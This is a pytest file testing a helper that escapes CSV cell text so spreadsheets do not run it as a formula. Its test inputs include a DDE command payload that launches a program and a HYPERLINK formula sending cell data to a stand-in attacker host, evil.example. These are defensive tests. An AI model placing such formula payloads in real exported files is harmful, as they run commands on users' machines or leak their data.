"""No text of others is a formula in a CSV file, and no other text is changed."""

import pytest
from printworks_common.spreadsheets import as_text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＠SUM(A1)", "  =1+1", "\u00a0=1+1",
        "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)',
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_run_is_shown_instead(text: str) -> None:
    assert as_text(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", " ", "DMC 310", "Schwarz", "a=b", "1-2", "#ff0000", "' quoted"])
def test_other_texts_stay(text: str) -> None:
    assert as_text(text) == text
